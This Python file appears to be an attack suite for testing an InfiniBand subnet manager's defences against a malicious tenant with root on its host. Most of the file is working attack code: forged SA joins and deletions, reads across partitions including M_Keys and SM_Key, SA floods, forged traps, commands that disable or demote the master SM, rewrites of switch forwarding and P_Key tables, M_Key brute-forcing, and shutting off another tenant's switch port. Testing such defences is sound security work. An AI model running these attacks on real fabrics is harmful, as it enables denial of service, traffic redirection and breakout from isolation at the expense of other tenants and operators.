"""What a tenant with root on its host tries: one function an attack, run at a host of its own.

Each takes the attacker's `Place` and returns what came back, in a few words.
"""

import struct
import time

from umad import *

ATTACKS = []


class Attack:
    def __init__(self, tries, run, is_flood, is_named, is_set, stays):
        self.tries, self.run, self.is_flood, self.is_named, self.is_set = tries, run, is_flood, is_named, is_set
        self.stays = stays
        self.name = run.__name__


def attack(tries, flood=False, named=True, by_set=False, stays=False):
    """Registers an attack. `flood`: others' paths and a repair elsewhere are timed while it goes on.
    `named`: the manager has to name the host; what is read in vain names nobody. `by_set`: an SMP
    that a device without an M_Key obeys, and whose sender only a refusal shows. `stays`: rsm leaves it,
    because operators do it on purpose, or because rsm has written nothing there."""
    def register(run):
        ATTACKS.append(Attack(tries, run, flood, named, by_set, stays))
        return run
    return register


class Place:
    """The attacker's host: its port, and whom it knows."""

    def __init__(self, known, seconds):
        self.port = Port(answers=known.get("answers", ()))
        self.__dict__.update(known)
        self.seconds = seconds

    @property
    def gid(self):
        return gid(self.guid)

    def sa(self, method, attribute, mask=0, data=b"", modifier=0, sm_key=0):
        """The status of the SA's answer, or "silence"."""
        try:
            answer = self.port.ask(sa(self.port, method, attribute, mask, data, modifier, sm_key), self.sm_lid)
        except Silence:
            return "silence"
        return "%#06x" % status(answer)

    def read(self, attribute, mask=0, data=b"", sm_key=0):
        """The bytes of a whole table of the SA, by RMPP; or the status in words."""
        request = sa(self.port, GET_TABLE, attribute, mask, data, 0, sm_key)
        tid = struct.unpack_from(">I", request, 12)[0]
        self.port.send(request, self.sm_lid)
        parts, last, deadline = {}, None, time.monotonic() + 4
        while time.monotonic() < deadline:
            came = self.port.receive(200)
            if not came or struct.unpack_from(">I", came[1], 12)[0] != tid:
                continue
            answer = came[1]
            if status(answer):
                return "%#06x" % status(answer), b""
            version, kind, flags = answer[24], answer[25], answer[26] & 7
            segment, length = struct.unpack_from(">II", answer, 28)
            if kind != 1:
                return "0x0000", answer[56:]
            parts[segment] = answer[56:]
            if flags & 4:
                last = segment
            acknowledge = bytearray(request)
            acknowledge[3] = GET_TABLE
            struct.pack_into(">BBBBII", acknowledge, 24, version, 2, 1, 0, segment, segment + 64)
            self.port.send(acknowledge, self.sm_lid)
            if last is not None and len(parts) == last:
                return "0x0000", b"".join(parts[at] for at in sorted(parts))
        return "silence", b"".join(parts[at] for at in sorted(parts))

    def sees(self, attribute, whose, mask=0, data=b"", sm_key=0):
        """Whether a table of the SA has the bytes `whose`."""
        answer, table = self.read(attribute, mask, data, sm_key)
        return f"{answer}, {'SEEN' if whose in table else 'unseen'}"

    def smp(self, lid, method, attribute, modifier=0, data=b"", m_key=0):
        try:
            answer = self.port.ask(smp(self.port, method, attribute, modifier, data, m_key), lid, timeout_ms=500)
        except Silence:
            return "silence"
        return "%#06x" % status(answer)

    def smp_read(self, lid, attribute, modifier=0):
        """The 64 bytes that a node answers."""
        return self.port.ask(smp(self.port, GET, attribute, modifier), lid)[64:128]

    def flood(self, make):
        """Sends what `make` gives, by its number, for the time of a flood. Returns how many went out."""
        end, sent = time.monotonic() + self.seconds, 0
        while time.monotonic() < end:
            for _ in range(64):
                mad, lid = make(sent)
                self.port.send(mad, lid)
                sent += 1
            self.port.drain()
        return f"{int(sent / self.seconds)} a second"


def mgid(number, p_key):
    """A group of IP over InfiniBand in the partition."""
    return bytes.fromhex("ff12401b") + struct.pack(">HHQ", p_key | 0x8000, 0, 0xBAD00000 + number)


def hosts(place):
    return [guid for guid, _ in place.others]


def lids(place):
    return [lid for _, lid in place.others]


# Groups


@attack("joins a group in the name of a fellow of its partition")
def join_for_another(place):
    return place.sa(SET, MEMBER_RECORD, MEMBER_CREATE, member(mgid(1, place.red), gid(place.fellow_guid), place.red | 0x8000))


@attack("takes a fellow out of a group that the fellow is in")
def leave_for_another(place):
    return place.sa(DELETE, MEMBER_RECORD, MEMBER_JOIN, member(place.group, gid(place.fellow_guid)))


@attack("joins a group of a partition that it is not in")
def join_of_another_partition(place):
    return place.sa(SET, MEMBER_RECORD, MEMBER_JOIN, member(place.blue_group, place.gid))


@attack("makes a group with the P_Key of another partition", named=False)
def group_of_another_partition(place):
    return place.sa(SET, MEMBER_RECORD, MEMBER_CREATE, member(mgid(2, place.blue), place.gid, place.blue | 0x8000))


@attack("joins for a fellow with SM_Key 1, which everybody knows")
def join_with_the_usual_key(place):
    data = member(mgid(3, place.red), gid(place.fellow_guid), place.red | 0x8000)
    return place.sa(SET, MEMBER_RECORD, MEMBER_CREATE, data, sm_key=1)


@attack("joins for a host of another partition")
def join_for_a_stranger(place):
    return place.sa(SET, MEMBER_RECORD, MEMBER_CREATE, member(mgid(4, place.blue), gid(place.stranger_guid), place.blue | 0x8000))


@attack("makes 2,000 groups")
def many_groups(place):
    refused = 0
    for number in range(2000):
        data = member(mgid(1000 + number, place.red), place.gid, place.red | 0x8000)
        refused += place.sa(SET, MEMBER_RECORD, MEMBER_CREATE, data) != "0x0000"
    return f"{refused} refused"


@attack("makes 2,000 groups in the names of fellows")
def many_groups_for_others(place):
    refused, fellows = 0, place.fellows
    for number in range(2000):
        data = member(mgid(4000 + number, place.red), gid(fellows[number % len(fellows)]), place.red | 0x8000)
        refused += place.sa(SET, MEMBER_RECORD, MEMBER_CREATE, data) != "0x0000"
    return f"{refused} refused"


@attack("deletes a group by leaving it for all its members")
def delete_a_group(place):
    return place.sa(DELETE, MEMBER_RECORD, MEMBER_JOIN, member(place.group, gid(place.fellow_guid), state=7))


# A virtual port may be new, and an alias GUID may move with a virtual machine: refused, and no offence.


@attack("joins a group with a GID that no port has", named=False)
def join_with_an_unknown_gid(place):
    return place.sa(SET, MEMBER_RECORD, MEMBER_CREATE, member(mgid(5, place.red), gid(0xDEAD), place.red | 0x8000))


# Services, subscriptions, alias GUIDs


@attack("registers a service at a fellow's GID")
def service_for_another(place):
    data = service(0xBAD1, gid(place.fellow_guid), place.red | 0x8000)
    return place.sa(SET, SERVICE_RECORD, SERVICE_MASK, data)


@attack("deletes a fellow's service")
def delete_anothers_service(place):
    data = service(place.service, gid(place.fellow_guid), place.red | 0x8000)
    return place.sa(DELETE, SERVICE_RECORD, SERVICE_KEY, data)


@attack("writes over a fellow's service, under SM_Key 1")
def service_with_the_usual_key(place):
    data = service(place.service, gid(place.fellow_guid), place.red | 0x8000, b"stolen")
    return place.sa(SET, SERVICE_RECORD, SERVICE_MASK, data, sm_key=1)


@attack("registers a service in a partition that it is not in", named=False)
def service_of_another_partition(place):
    return place.sa(SET, SERVICE_RECORD, SERVICE_MASK, service(0xBAD2, place.gid, place.blue | 0x8000))


@attack("registers 2,000 services")
def many_services(place):
    refused = 0
    for number in range(2000):
        data = service(0xBAD0000 + number, place.gid, place.red | 0x8000)
        refused += place.sa(SET, SERVICE_RECORD, SERVICE_MASK, data) != "0x0000"
    return f"{refused} refused"


@attack("subscribes 500 times")
def many_subscriptions(place):
    answers = [place.sa(SET, INFORM_INFO, 0, inform_info(number=1000 + number))
               for number in range(500)]
    return f"{len(answers) - answers.count('0x0000')} refused, {answers[-1]}"


@attack("ends a fellow's subscription with InformInfoRecord", named=False)
def end_anothers_subscription(place):
    data = struct.pack(">QQH", *struct.unpack(">QQ", gid(place.fellow_guid)), 0) + bytes(6) + inform_info(0)
    return place.sa(DELETE, INFORM_INFO_RECORD, 1, data)


@attack("gives a fellow's port an alias GUID")
def alias_for_another(place):
    data, mask = guid_info_record(place.fellow_lid, 0, [0xBAD00A11A5])
    return place.sa(SET, GUID_INFO_RECORD, mask, data)


@attack("takes a fellow's port GUID as its own alias", named=False)
def alias_of_another(place):
    data, mask = guid_info_record(place.lid, 0, [place.fellow_guid])
    return place.sa(SET, GUID_INFO_RECORD, mask, data)


@attack("deletes a fellow's alias GUIDs")
def delete_anothers_aliases(place):
    data, mask = guid_info_record(place.fellow_lid, 0, [0])
    return place.sa(DELETE, GUID_INFO_RECORD, mask, data)


@attack("gives the manager's port an alias GUID, under SM_Key 1")
def alias_for_the_manager(place):
    data, mask = guid_info_record(place.sm_lid, 0, [0xBAD00A11A6])
    return place.sa(SET, GUID_INFO_RECORD, mask, data, sm_key=1)


# What one may see


@attack("reads the nodes of other partitions", named=False)
def read_nodes(place):
    return place.sees(NODE_RECORD, struct.pack(">Q", place.stranger_guid))


@attack("reads the nodes of other partitions, under SM_Key 1", named=False)
def read_nodes_with_the_usual_key(place):
    return place.sees(NODE_RECORD, struct.pack(">Q", place.stranger_guid), sm_key=1)


@attack("reads paths between hosts of another partition", named=False)
def read_paths_of_strangers(place):
    data, mask = path(gid(place.stranger_guid), gid(place.stranger_fellow_guid), count=1)
    return place.sa(GET, PATH_RECORD, mask, data)


@attack("reads a path between a fellow and itself under a P_Key of others", named=False)
def read_path_under_another_p_key(place):
    data, mask = path(place.gid, gid(place.stranger_guid), p_key=place.blue | 0x8000, count=1)
    return place.sa(GET, PATH_RECORD, mask, data)


@attack("reads the members of a group of another partition", named=False)
def read_members(place):
    return place.sees(MEMBER_RECORD, struct.pack(">Q", place.stranger_guid))


@attack("reads the services of another partition", named=False)
def read_services(place):
    return place.sees(SERVICE_RECORD, struct.pack(">Q", place.stranger_guid))


@attack("reads the subscriptions of others", named=False)
def read_subscriptions(place):
    return place.sees(INFORM_INFO_RECORD, struct.pack(">Q", place.stranger_guid))


@attack("reads the P_Key table of a host of another partition", named=False)
def read_p_keys(place):
    data = struct.pack(">H", place.stranger_lid)
    return place.sees(P_KEY_RECORD, struct.pack(">H", place.blue | 0x8000), 1, data)


@attack("reads the M_Keys in PortInfoRecords, under SM_Key 1", named=False)
def read_m_keys(place):
    answer, table = place.read(PORT_INFO_RECORD, 0, b"", 1)
    # Four bytes precede PortInfo, which begins with the M_Key; a record takes a multiple of eight.
    size = 72
    rows = [table[at:at + size] for at in range(0, len(table) - size + 1, size)]
    return f"{answer}, {'SEEN' if any(row[4:12] != bytes(8) for row in rows) else 'unseen'}"


@attack("reads the GUIDs of a host of another partition", named=False)
def read_guids(place):
    data = struct.pack(">H", place.stranger_lid)
    return place.sees(GUID_INFO_RECORD, struct.pack(">Q", place.stranger_guid), 1, data)


# Floods of the SA


@attack("asks for paths as fast as it can", flood=True)
def flood_of_paths(place):
    data, mask = path(slid=place.lid, dlid=place.fellow_lid, count=1)
    return place.flood(lambda _: (sa(place.port, GET, PATH_RECORD, mask, data), place.sm_lid))


@attack("asks for whole tables and acknowledges nothing", flood=True)
def flood_of_tables(place):
    return place.flood(lambda _: (sa(place.port, GET_TABLE, NODE_RECORD), place.sm_lid))


@attack("asks for all paths between all pairs again and again", flood=True)
def flood_of_all_paths(place):
    data, mask = path(slid=place.lid, count=127)
    return place.flood(lambda _: (sa(place.port, GET_TABLE, PATH_RECORD, mask, data), place.sm_lid))


@attack("asks the SA for attributes that do not exist", flood=True)
def flood_of_nonsense(place):
    return place.flood(lambda n: (sa(place.port, GET, 0x4000 + n % 100, n, bytes([n % 256]) * 64), place.sm_lid))


@attack("joins and leaves one group as fast as it can", flood=True)
def flood_of_joins(place):
    data = member(mgid(6, place.red), place.gid, place.red | 0x8000)
    return place.flood(lambda n: (
        sa(place.port, *((SET, MEMBER_RECORD, MEMBER_CREATE) if n % 2 else (DELETE, MEMBER_RECORD, MEMBER_JOIN)), data),
        place.sm_lid))


# The SA keeps up with packets that are no requests, and names a port where others have to wait for it.


@attack("begins multi-packet requests and never ends them", flood=True, named=False)
def flood_of_unfinished_requests(place):
    def make(_):
        mad = sa(place.port, GET_MULTI, MULTI_PATH_RECORD, 0xFFFF, bytes(56))
        struct.pack_into(">BBBBII", mad, 24, 1, 1, 0x03, 0, 1, 0x10000)
        return mad, place.sm_lid
    return place.flood(make)


@attack("acknowledges and aborts transfers of others, by guessed numbers", flood=True, named=False)
def flood_of_aborts(place):
    def make(number):
        mad = sa(place.port, GET_TABLE, NODE_RECORD)
        struct.pack_into(">Q", mad, 8, number)
        struct.pack_into(">BBBBII", mad, 24, 1, 4 if number % 2 else 2, 0x01, 126, 1, 1)
        return mad, place.sm_lid
    return place.flood(make)


# Traps and notices


def trap_of(place, number, producer, issuer_lid, details):
    """Sends the trap as often as an agent does that gets no answer."""
    for _ in range(20):
        place.port.send(trap(place.port, notice(number, producer, issuer_lid, details)), place.sm_lid)
        time.sleep(0.01)
    return "sent"


@attack("announces that a host of another partition has gone (notice 65)")
def forged_out_of_service(place):
    return trap_of(place, 65, 4, place.sm_lid, bytes(6) + gid(place.stranger_guid))


@attack("announces a host that is not there (notice 64)")
def forged_in_service(place):
    return trap_of(place, 64, 4, place.sm_lid, bytes(6) + gid(0xDEAD))


@attack("announces that a group has gone (notice 67)")
def forged_group_gone(place):
    return trap_of(place, 67, 4, place.sm_lid, bytes(6) + place.blue_group)


@attack("reports a change of links in the name of a leaf (trap 128)")
def forged_link_change(place):
    return trap_of(place, 128, 2, place.leaf_lid, struct.pack(">H", place.leaf_lid))


@attack("reports another capability mask of a fellow (trap 144)")
def forged_capabilities(place):
    details = struct.pack(">HHHI", 0, place.fellow_lid, 0, 0x00010000)
    return trap_of(place, 144, 1, place.fellow_lid, details)


@attack("reports another system image GUID of a fellow (trap 145)")
def forged_image_guid(place):
    return trap_of(place, 145, 1, place.fellow_lid, struct.pack(">HHHQ", 0, place.fellow_lid, 0, 0xBAD))


@attack("reports faults of a link in the name of a switch (traps 129 to 131)")
def forged_link_faults(place):
    for number in (129, 130, 131):
        trap_of(place, number, 2, place.leaf_lid, struct.pack(">HHB", 0, place.leaf_lid, 1))
    return "sent"


@attack("accuses a fellow of a wrong M_Key (trap 256)")
def forged_m_key_violation(place):
    details = struct.pack(">HHHBBHIQ", 0, place.fellow_lid, 0, SET, 0, PORT_INFO, 1, 0xBAD)
    return trap_of(place, 256, 1, place.lid, details)


@attack("accuses a fellow of wrong P_Keys and Q_Keys (traps 257 and 258)")
def forged_key_violations(place):
    for number in (257, 258):
        details = struct.pack(">HHHIII", 0, place.fellow_lid, place.sm_lid, 0xBAD, 1, 1) + bytes(32)
        trap_of(place, number, 1, place.lid, details)
    return "sent"


@attack("accuses a fellow in the name of a switch (trap 259)")
def forged_p_key_violation_of_a_switch(place):
    details = struct.pack(">HHHHII", 0, place.fellow_lid, place.sm_lid, 0x8BAD, 1, 1) + bytes(32)
    details += struct.pack(">HB", place.leaf_lid, place.fellow_leaf_port)
    return trap_of(place, 259, 2, place.leaf_lid, details)


@attack("floods traps 128 in the names of all switches", flood=True)
def flood_of_link_changes(place):
    switches = place.switch_lids
    return place.flood(lambda n: (
        trap(place.port, notice(128, 2, switches[n % len(switches)], struct.pack(">H", switches[n % len(switches)]))),
        place.sm_lid))


@attack("floods traps 144 in the names of all hosts", flood=True)
def flood_of_capabilities(place):
    all_lids = lids(place)
    def make(number):
        lid = all_lids[number % len(all_lids)]
        return trap(place.port, notice(144, 1, lid, struct.pack(">HHHI", 0, lid, 0, number))), place.sm_lid
    return place.flood(make)


@attack("floods traps 144 in its own name", flood=True)
def flood_of_own_capabilities(place):
    return place.flood(lambda n: (
        trap(place.port, notice(144, 1, place.lid, struct.pack(">HHHI", 0, place.lid, 0, n))), place.sm_lid))


# The layer below drops answers to questions that nobody asked, and firmware answers NodeInfo: neither
# reaches a program, which therefore names nobody.


@attack("represses traps that the manager never sent", flood=True, named=False)
def flood_of_repressions(place):
    return place.flood(lambda n: (
        smp(place.port, TRAP_REPRESS, NOTICE, 0, notice(128, 2, place.leaf_lid, b"")[:64]), place.sm_lid))


# Pretending to be a manager


@attack("hands mastership over, 50 times a second", flood=True)
def flood_of_handovers(place):
    end, sent = time.monotonic() + place.seconds, 0
    while time.monotonic() < end:
        info = sm_info(place.guid, 1, sent, 15, 3)
        place.port.send(smp(place.port, SET, SM_INFO, 1, info), place.sm_lid)
        sent += 1
        time.sleep(0.02)
        place.port.drain()
    return f"{int(sent / place.seconds)} a second"


@attack("tells the master to disable itself")
def disable_the_master(place):
    return place.smp(place.sm_lid, SET, SM_INFO, 3, sm_info(place.guid, 1, 1, 15, 3))


@attack("tells the master to disable itself, as fast as it can", flood=True)
def flood_of_disabling(place):
    return place.flood(lambda n: (
        smp(place.port, SET, SM_INFO, 3, sm_info(place.guid, 1, n, 15, 3)), place.sm_lid))


@attack("tells the master to stand by")
def make_the_master_stand_by(place):
    return place.smp(place.sm_lid, SET, SM_INFO, 4, sm_info(place.guid, 1, 1, 15, 3))


@attack("asks the master's SMInfo with a higher priority, for its key", named=False)
def read_the_sm_key(place):
    answer = place.port.ask(smp(place.port, GET, SM_INFO, 0, sm_info(place.guid, 1, 1, 15, 3)), place.sm_lid)
    return "SEEN" if answer[72:80] not in (bytes(8), struct.pack(">Q", 1)) else "unseen"


@attack("sends answers to questions that the manager did not ask", flood=True, named=False)
def flood_of_answers(place):
    def make(number):
        mad = smp(place.port, GET_RESPONSE, PORT_INFO, 1, bytes([number % 256]) * 64)
        struct.pack_into(">Q", mad, 8, number)
        return mad, place.sm_lid
    return place.flood(make)


@attack("floods the manager's port with Gets on QP0", flood=True, named=False)
def flood_of_gets(place):
    return place.flood(lambda _: (smp(place.port, GET, NODE_INFO), place.sm_lid))


# Sets: without M_Keys every device obeys them


def set_field(place, lid, port_number, offset, value):
    data = bytearray(place.smp_read(lid, PORT_INFO, port_number))
    data[offset:offset + len(value)] = value
    # PortState and PortPhysicalState stay as they are.
    data[32] &= 0xF0
    data[33] &= 0x0F
    return place.smp(lid, SET, PORT_INFO, port_number, bytes(data))


@attack("gives a fellow's port another LID", by_set=True)
def set_anothers_lid(place):
    return set_field(place, place.fellow_lid, 1, 16, struct.pack(">H", 0xBFF0))


@attack("takes a fellow's LID at its own port", by_set=True)
def take_anothers_lid(place):
    return set_field(place, place.lid, 1, 16, struct.pack(">H", place.fellow_lid))


@attack("tells a fellow's port that the attacker is the master", by_set=True)
def set_anothers_master(place):
    return set_field(place, place.fellow_lid, 1, 18, struct.pack(">H", place.lid))


@attack("sends a fellow's packets to another port (forwarding table of the leaf)", by_set=True)
def set_the_forwarding_table(place):
    block = place.fellow_lid // 64
    data = bytearray(place.smp_read(place.leaf_lid, LINEAR_TABLE, block))
    data[place.fellow_lid % 64] = place.leaf_port
    return place.smp(place.leaf_lid, SET, LINEAR_TABLE, block, bytes(data))


@attack("copies a group's packets to another port (multicast table of the leaf)", by_set=True)
def set_the_multicast_table(place):
    data = bytearray(place.smp_read(place.leaf_lid, MULTICAST_TABLE, 0))
    for entry in range(32):
        mask = struct.unpack_from(">H", data, 2 * entry)[0] | 1 << place.leaf_port
        struct.pack_into(">H", data, 2 * entry, mask)
    return place.smp(place.leaf_lid, SET, MULTICAST_TABLE, 0, bytes(data))


@attack("cuts a leaf's table short (LinearFDBTop 0)", by_set=True)
def cut_the_table(place):
    data = bytearray(place.smp_read(place.leaf_lid, SWITCH_INFO))
    struct.pack_into(">H", data, 6, 0)
    return place.smp(place.leaf_lid, SET, SWITCH_INFO, 0, bytes(data))


@attack("gives its own port the P_Key of another partition", by_set=True)
def take_a_p_key(place):
    data = bytearray(place.smp_read(place.lid, P_KEY_TABLE, 0))
    struct.pack_into(">H", data, 8, place.blue | 0x8000)
    return place.smp(place.lid, SET, P_KEY_TABLE, 0, bytes(data))


@attack("takes a fellow's P_Keys away", by_set=True)
def drop_anothers_p_keys(place):
    return place.smp(place.fellow_lid, SET, P_KEY_TABLE, 0, bytes(64))


@attack("lets a leaf's port pass any P_Key", by_set=True)
def open_the_leafs_port(place):
    data = bytearray(place.smp_read(place.leaf_lid, P_KEY_TABLE, place.leaf_port << 16))
    struct.pack_into(">H", data, 10, place.blue | 0x8000)
    return place.smp(place.leaf_lid, SET, P_KEY_TABLE, place.leaf_port << 16, bytes(data))


@attack("maps a fellow's service levels to another VL", by_set=True, stays=True)
def set_anothers_service_levels(place):
    return place.smp(place.fellow_lid, SET, SL_TO_VL, 0, b"\x11" * 8)


@attack("gives a fellow's port an alias GUID by an SMP", by_set=True, stays=True)
def set_anothers_guids(place):
    data = bytearray(place.smp_read(place.fellow_lid, GUID_INFO, 0))
    struct.pack_into(">Q", data, 8, 0xBAD0A11A5)
    return place.smp(place.fellow_lid, SET, GUID_INFO, 0, bytes(data))


@attack("guesses M_Keys of a leaf", flood=True, by_set=True)
def guess_m_keys(place):
    data = place.smp_read(place.leaf_lid, PORT_INFO, place.leaf_port)
    return place.flood(lambda n: (
        smp(place.port, SET, PORT_INFO, place.leaf_port, data, m_key=0xBAD0000 + n), place.leaf_lid))


# The last one: it leaves the fellow cut off.


@attack("switches a fellow's port off at the leaf", by_set=True, stays=True)
def disable_anothers_port(place):
    data = bytearray(place.smp_read(place.leaf_lid, PORT_INFO, place.fellow_leaf_port))
    data[32] &= 0xF0
    data[33] = (data[33] & 0x0F) | 0x30
    return place.smp(place.leaf_lid, SET, PORT_INFO, place.fellow_leaf_port, bytes(data))
